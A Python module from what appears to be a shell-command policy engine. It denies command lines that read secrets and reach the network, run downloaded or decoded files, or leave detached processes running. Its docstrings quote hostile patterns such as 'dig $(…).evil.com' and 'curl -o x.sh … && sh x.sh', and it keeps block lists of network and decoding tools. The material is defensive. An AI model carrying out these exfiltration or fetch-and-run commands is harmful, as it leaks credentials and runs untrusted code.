"""Rules about a whole command line (item 7): denied whatever the mode, rules or tier.

- **Exfiltration**: one line that reads secret-looking files or the environment (``cat .env``,
  ``env``, ``$API_KEY``, ``/proc/*/environ``) and can reach the network (``curl``, ``nc``,
  ``dig $(…).evil.com``, a git push, or code no OS tier confines).
- **Downloaded or decoded files run later on the line**: ``curl -o x.sh … && sh x.sh``,
  ``base64 -d > x; python x``, ``curl … | tee f; . f``, ``chmod +x f && ./f``; and downloaded data
  piped into a command that can run it (``| awk '{system($0)}'``, ``| xargs sh``).
- **Processes meant to outlive the call** (``setsid``, ``nohup … &``, ``disown``, detached
  ``screen``/``tmux``) when no PID namespace reaps them.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING

from keel.policy.shell.commands import Finding, Invocation, deny
from keel.policy.shell.facts import options, parse, spec_from_text, table, values_of
from keel.policy.shell.parse import SimpleCommand, Word
from keel.policy.shell.unwrap import SHELLS, Unwrapped

if TYPE_CHECKING:
    from keel.policy.shell.decision import PartReport
    from keel.policy.shell.paths import PathJudge

FETCHERS = frozenset({"curl", "wget", "nc", "ncat", "netcat", "socat", "aria2c", "fetch", "http", "https",
                      "xh", "lynx", "links", "w3m", "ftp", "tftp", "ssh", "scp", "telnet", "rsync", "sftp"})
DECODERS = frozenset({"base64", "base32", "basenc", "xxd", "uudecode", "openssl", "gpg", "rev", "zcat",
                      "gunzip", "bzcat", "xzcat", "zstdcat", "unzstd", "unxz", "bunzip2"})
# Programs that reach the network (besides findings marked network): DNS lookups carry data too.
NET_TOOLS = FETCHERS | frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "tracepath",
                                  "whois", "getent", "mail", "sendmail", "mutt", "gh", "aws", "gcloud", "az",
                                  "kubectl", "docker", "podman", "npm", "npx", "pip", "pip3", "gem", "wget2",
                                  "openssl"})
RUNNERS = frozenset({"python", "python3", "python2", "pypy", "pypy3", "node", "nodejs", "perl", "ruby", "php",
                     "lua", "deno", "bun", "Rscript", "source", ".", "eval", "exec", "tclsh", "osascript"}) | SHELLS
_WITH_SCRIPT_FILE = frozenset({"awk", "gawk", "mawk", "nawk", "sed", "gsed", "make", "gmake"})
_DATA_RUNNERS = frozenset({"awk", "gawk", "mawk", "nawk", "sed", "gsed", "xargs", "parallel", "perl", "ruby"})
_SECRET_PARAM = re.compile(r"(KEY|TOKEN|SECRET|PASSW|CRED|AUTH|COOKIE|SESSION)", re.IGNORECASE)


def escapes_hide_text(argv: list[Word]) -> bool:
    """``printf '\\x6c\\x73'``, ``echo -e '\\154'``: text spelled in escapes is decoded data."""
    name = argv[0].value.rsplit("/", 1)[-1] if argv else ""
    values = [w.value for w in argv[1:]]
    if name == "echo" and not any(re.fullmatch(r"-[neE]*e[neE]*", v) for v in values):
        return False
    return name in ("printf", "echo") and any(re.search(r"\\(x[0-9a-fA-F]|[0-7]{1,3}|u[0-9a-fA-F]|U[0-9a-fA-F])", v)
                                               for v in values)


def clone_target(inv: Invocation) -> Word | None:
    """``git clone URL [DIR]``: the directory the downloaded repository lands in."""
    values = inv.values
    if inv.name != "git" or "clone" not in values:
        return None
    rest = [w for w in inv.args[values.index("clone") + 1:] if not w.value.startswith("-")]
    if len(rest) >= 2:
        return rest[1]
    if rest:
        name = rest[0].value.rstrip("/").rsplit("/", 1)[-1].rsplit(":", 1)[-1]
        name = name[:-4] if name.endswith(".git") else name
        return Word(name, name) if name else None
    return None


# A downloader or decoder without an entry in facts.toml: -o/--output is where it saves.
_SAVES = spec_from_text("-o=W --output=W")


def fetched_targets(un: Unwrapped, cmd: SimpleCommand, upstream_fetches: bool) -> list[Word]:
    """Files this command fills with downloaded or decoded data."""
    name = un.argv[0].value.rsplit("/", 1)[-1] if un.argv else ""
    if name in FETCHERS or name in DECODERS or set(un.layers) & FETCHERS:
        parsed = parse(table().spec(name) or _SAVES, un.argv[1:])          # curl -o F, wget -O F (facts.toml)
        targets = [w for w in values_of(parsed, "-o", "--output", "-O", "--output-document") if w.value != "-"]
        values = [w.value for w in un.argv[1:]]
        remote_name = name in ("wget", "aria2c") or any(
            v in ("--remote-name", "--remote-name-all") or re.fullmatch(r"-[a-zA-Z]*O[a-zA-Z]*", v) for v in values)
        if remote_name and not targets:           # saved under the URL's last component (wget -P DIR: in DIR)
            prefix = next((w.value.rstrip("/") + "/" for w in values_of(parsed, "-P", "--directory-prefix")), "")
            targets = [Word(prefix + w.value.rstrip("/").rsplit("/", 1)[-1], w.value) for w in un.argv[1:]
                       if "://" in w.value]
        return targets + [r.target for r in cmd.redirects if r.writes and r.target is not None]
    if upstream_fetches:                          # curl … | tee f ; curl … | cat > f
        out = [r.target for r in cmd.redirects if r.writes and r.target is not None]
        if name in ("tee", "dd", "cp", "cat", "sponge"):
            out += [w for w in un.argv[1:] if not w.value.startswith("-")]
        return out
    return []


# Commands that run code from the directory they work in (conftest.py, Makefile, package.json
# scripts, build.rs, setup.py): a downloaded file there runs without being named.
PROJECT_RUNNERS = frozenset({"pytest", "py.test", "make", "gmake", "npm", "yarn", "pnpm", "npx", "cargo", "go", "tox",
                             "nox", "jest", "vitest", "mocha", "pip", "pip3", "uv", "poetry", "bun", "deno"})
_CODE_NAME = re.compile(r"(?i).*\.(py|pyc|pth|js|mjs|cjs|ts|tsx|sh|bash|zsh|go|rs|rb|pl|php|lua|mk|toml|cfg|ini|json|"
                        r"ya?ml|so|node|jar|whl|egg|tar|tgz|gz|zip)|makefile|gnumakefile|[^.]+")


def extracted_into(inv: Invocation, paths: PathJudge, fetched: set[Path]) -> list[Word]:
    """``tar xf a.tar`` / ``unzip a.zip`` of an archive filled earlier on the line: where it unpacks
    (every file there now holds downloaded data)."""
    if inv.name not in ("tar", "unzip", "bsdtar") or not fetched:
        return []
    if not any(c in fetched for w in inv.args for p in paths.places(w, inv.cwds) for c in p.candidates()):
        return []
    return values_of(options(inv.name, inv.args), "-C", "--directory", "-d") or [Word(".", ".")]


def runs_fetched(inv: Invocation, paths: PathJudge, fetched: set[Path], trees: set[Path] | None = None) -> bool:
    """Does this command run (or feed as a program) a file filled earlier on the line? ``trees``:
    directories an archive filled with downloaded files."""
    if not fetched and not trees:
        return False
    name = inv.name
    if name in PROJECT_RUNNERS or (re.fullmatch(r"python[\d.]*", name) and "-m" in inv.values):
        for cwd in inv.cwds:
            if cwd is not None and (any(f.parent == cwd or cwd in f.parents for f in fetched
                                        if _CODE_NAME.fullmatch(f.name)) or any(t == cwd or cwd in t.parents
                                                                                or t in cwd.parents for t in trees or ())):
                return True
    words = list(inv.argv)
    if name not in RUNNERS and not re.fullmatch(r"python[\d.]*|pypy[\d.]*", name):
        if name in _WITH_SCRIPT_FILE and any(w.value.startswith("-f") for w in inv.args):
            words = inv.args
        else:
            words = [inv.argv[0]] if "/" in inv.argv[0].value else []   # ./x runs the file; x is looked up on PATH
    for word in words:
        for place in paths.places(word, inv.cwds):
            if any(c in fetched or any(t == c or t in c.parents for t in trees or ()) for c in place.candidates()):
                return True
    return False


# Lookups whose name or address carries data out (DNS queries pass where TCP is blocked).
_DNS_TOOLS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "tracepath", "whois",
                        "getent", "resolvectl", "avahi-resolve", "arping", "mtr"})


def output_sent(inv: Invocation) -> Finding | None:
    """``dig $(cat f).evil.com``, ``curl x/$(whoami)``: a network command whose arguments are built
    from command output sends that output; a lookup of a name built at run time does too."""
    if inv.name not in _DNS_TOOLS and inv.name not in FETCHERS:
        return None
    for word in inv.args:
        built = any(sub.kind != "process" for sub in word.subs)
        if built or (inv.name in _DNS_TOOLS and word.params):
            return deny(f"{inv.name} sends data built at run time ({word.raw!r}) over the network", lift=None,
                        network=True)
    return None


def pipes_into_runner(inv: Invocation, un: Unwrapped) -> bool:
    """Downloaded data piped into something that can run it (awk system(), sed e, xargs CMD)."""
    return inv.name in _DATA_RUNNERS or "xargs" in un.layers


def detached(un: Unwrapped, inv: Invocation | None, cmd: SimpleCommand) -> str | None:
    """A process meant to outlive the call: what makes it so."""
    name = inv.name if inv is not None else ""
    values = [w.value for w in inv.args] if inv is not None else []
    if "setsid" in un.layers or name == "setsid":
        return "setsid starts a process in a new session"
    if name == "disown":
        return "disown lets a background job outlive the shell"
    if "nohup" in un.layers and cmd.background:
        return "nohup … & leaves a process running after the call"
    if name == "coproc" or (un.argv and un.argv[0].value == "coproc"):
        return "coproc starts a background process that may outlive the call"
    if cmd.background and not cmd.waited:
        return "a background job (… &) that nothing on the line waits for keeps running after the call"
    if name in ("daemonize", "start-stop-daemon", "systemd-run") or (name == "screen" and any(v.startswith("-d") for v in values)) \
            or (name == "tmux" and "-d" in values):
        return f"{name} starts a detached process"
    return None


def mark_waited(commands: list[SimpleCommand]) -> None:
    """A background job is waited for when a ``wait`` runs after it in the same command line."""
    last_wait = max((i for i, c in enumerate(commands) if c.words and c.words[0].value == "wait"), default=-1)
    for i, cmd in enumerate(commands):
        cmd.waited = cmd.background and i < last_wait


def secret_params(words: list[Word]) -> list[Finding]:
    """``$API_KEY``, ``${GITHUB_TOKEN}``: expanding a secret-looking variable reads the environment."""
    for word in words:
        if any(_SECRET_PARAM.search(p) for p in word.params):
            return [Finding("allow", f"expands a secret-looking variable in {word.raw!r}", secret=True)]
    return []


def exfiltration(parts: list[PartReport], confined: bool) -> None:
    """Deny a line that both reads secrets/the environment and can reach the network."""
    secrets = [p for p in parts if any(f.secret for f in p.findings)]
    if not secrets:
        return
    secret = secrets[0]
    only_git_config = all(p.words[:1] == ["git"] and all("configuration that may hold tokens" in f.reason
                                                          for f in p.findings if f.secret) for p in secrets)
    for part in parts:
        name = part.words[0].rsplit("/", 1)[-1] if part.words else ""
        if only_git_config and name == "git":
            continue          # `git remote -v && git fetch`: git's own config goes nowhere new
        reaches = part.network or name in NET_TOOLS or any(
            f.tier == "code" and not confined for f in part.findings)
        if reaches:
            part.findings.append(deny(f"reads secrets or the environment ({secret.source}) and can reach the "
                                      "network in the same command line", lift=None))
            return
